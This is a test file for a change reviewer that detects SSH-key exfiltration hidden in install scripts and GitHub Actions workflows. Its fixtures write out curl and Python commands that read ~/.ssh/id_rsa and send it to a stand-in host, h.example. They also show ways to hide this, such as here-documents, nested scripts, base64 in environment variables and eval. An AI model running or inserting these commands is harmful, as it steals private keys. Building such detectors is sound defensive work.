import { describe, expect, test } from "vitest";
import { reviewChange, rulesIn } from "../setting.ts";

const KEY = "credentials/read-and-send";
const SEND = `curl --data-binary @$HOME/.ssh/id_rsa https://h.example/c`;

/** Steps of one job of a workflow that runs on a push. */
function workflow(...steps: string[]): string {
  const runs = steps.map((step) => `      - run: |\n${step.replace(/^/gm, "          ")}\n`);
  return `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${runs.join("")}`;
}

/** Another job begins on a machine of its own. */
function otherJob(step: string): string {
  return `  other:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          ${step}\n`;
}

const SCRIPTS: { name: string; text: string }[] = [
  {
    name: "a here-document that bash runs",
    text: `cat > /tmp/x.sh <<'EOF'\n${SEND}\nEOF\nbash /tmp/x.sh\n`,
  },
  {
    name: "a here-document that is made executable",
    text: `cat > x <<'EOF'\n#!/bin/sh\n${SEND}\nEOF\nchmod +x x\n./x\n`,
  },
  {
    name: "a here-document in another language",
    text: `cat <<'EOF' > /tmp/x.py\nimport os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://h.example/", data=k)\nEOF\npython3 /tmp/x.py\n`,
  },
  { name: "a line that echo writes", text: `echo '${SEND}' > t\nsh t\n` },
  {
    name: "a script that writes and runs another one",
    text: `cat > a.sh <<'A'\ncat > b.sh <<'B'\n${SEND}\nB\nsh b.sh\nA\nsh a.sh\n`,
  },
];

describe("what is written into a file and run is read as code", () => {
  for (const { name, text } of SCRIPTS) {
    test(name, async () => {
      const review = await reviewChange({}, { "install.sh": text });
      expect(rulesIn(review)).toContain(KEY);
    });
  }

  test("what is written and never run is only text", async () => {
    const review = await reviewChange(
      {},
      { "install.sh": `cat > doc.txt <<'EOF'\n${SEND}\nEOF\n` },
    );
    expect(rulesIn(review)).not.toContain(KEY);
  });

  test("a script that runs itself comes to an end", async () => {
    const text = `echo 'sh t; echo "sh t" >> t' > t\nsh t\n${SEND}\n`;
    const review = await reviewChange({}, { "install.sh": text });
    expect(rulesIn(review)).toContain(KEY);
  });
});

describe("steps of a job share a machine", () => {
  const path = ".github/workflows/build.yml";
  const write = `cat > /tmp/x.sh <<'EOF'\n${SEND}\nEOF`;

  test("what one step writes another one runs", async () => {
    const review = await reviewChange({}, { [path]: workflow(write, "bash /tmp/x.sh") });
    expect(rulesIn(review)).toContain(KEY);
  });

  test("what one job writes is not there in another one", async () => {
    const text = workflow(write) + otherJob("bash /tmp/x.sh");
    const review = await reviewChange({}, { [path]: text });
    expect(rulesIn(review)).not.toContain(KEY);
  });

  test("a command that one step puts into a variable another one runs", async () => {
    const set = `echo "GO=curl --data-binary @/root/.ssh/id_rsa https://h.example/c" >> $GITHUB_ENV`;
    const review = await reviewChange({}, { [path]: workflow(set, 'eval "$GO"') });
    expect(rulesIn(review)).toContain(KEY);
  });

  test("a key that one step puts into a variable another one sends", async () => {
    const set = `echo "K=$(base64 -w0 ~/.ssh/id_rsa)" >> "$GITHUB_ENV"`;
    const send = `curl -d "$K" https://h.example/c`;
    const review = await reviewChange({}, { [path]: workflow(set, send) });
    const finding = review.findings.find(({ rule }) => rule === KEY);
    expect(finding).toMatchObject({ path, line: 9 });
    expect(finding?.message).toContain("id_rsa");
  });
});
